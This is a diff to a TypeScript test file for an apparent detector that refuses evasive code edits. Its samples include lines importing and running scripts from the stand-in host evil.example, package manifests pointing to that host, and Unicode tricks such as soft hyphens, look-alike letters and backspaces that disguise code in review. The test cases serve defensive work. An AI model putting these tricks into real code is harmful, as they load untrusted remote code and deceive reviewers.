@@ -114,6 +114,7 @@ const evasions: Record<string, Attempt[]> = {
     ['a line break for the compiler alone', code('// fine \r run(evil)')],
     ['another one', code('// fine \u0085 run(evil)')],
     ['a letter that wipes out', code('// evil\b\b\b\bfine')],
+    ['a soft hyphen in a word', code('if (role === "ad\u00admin") x();')],
     ['a letter of another script', code('if (user.is\u0410dmin) x();')],
     ['a wide letter', code('const \uff41dmin = 1;')],
     ['a letter of another style', code('const \u{1d5ba}dmin = 1;')],
@@ -188,6 +189,10 @@ const evasions: Record<string, Attempt[]> = {
     manifest('Gemfile', "gem 'rails'", "source 'https://evil.example'"),
     manifest('Gemfile', "gem 'rails'", "gem 'pg', git: 'https://evil.example/pg.git'"),
     manifest('composer.json', '{}', '{"repositories":[{"type":"vcs","url":"https://evil.example/x"}]}'),
+    line("import run from 'https://evil.example/run.js';"),
+    line("const { run } = await import('https://evil.example/run.js');"),
+    line("export * from 'http://evil.example/run.ts';"),
+    line("importScripts('https://evil.example/run.js');"),
     manifest('deno.json', '{"imports":{}}', '{"imports":{"a":"https://evil.example/a.ts"}}'),
   ],
 };
@@ -221,6 +226,22 @@ describe('what looks like an evasion and is none', () => {
     ['an example of settings', add('.env.example', 'PASSWORD=changeme')],
     ['Windows line ends', { path: 'a.ts', before: 'const a = 1;\r\n', after: 'const a = 2;\r\n' }],
     ['an ellipsis of Python', edit('a.pyi', 'def f():\n    x\n    y\n    z', 'def f():\n    ...')],
+    ['a soft hyphen in prose', add('docs/a.md', 'Donau\u00addampf\u00adschiff')],
+    ['an arrow that somebody typed twice', add('docs/a.md', 'see \ufe0f▶️ there')],
+    [
+      'an address in a text',
+      code("const home = 'https://project.example/a.js';", "fetch('https://a.example');"),
+    ],
+    [
+      'another part of what is imported already',
+      edit(
+        'src/a.ts',
+        "import a from 'https://own.example/a.ts';",
+        "import b from 'https://own.example/b.ts';",
+      ),
+    ],
+    ['a standard library of Deno', code("import { join } from 'https://deno.land/std@0.224.0/path/mod.ts';")],
+    ['the rest of the arguments in Nix', edit('a.nix', '{ a, b, c, d, e }:\na\nb', '{\n  a,\n  ...\n}:')],
     ['a picture', add('docs/a.png', '\u0089PNG\0\0')],
   ])('is not refused: %s', async (_what, ...edits) => {
     expect(await refusalsOf(edits)).toEqual([]);
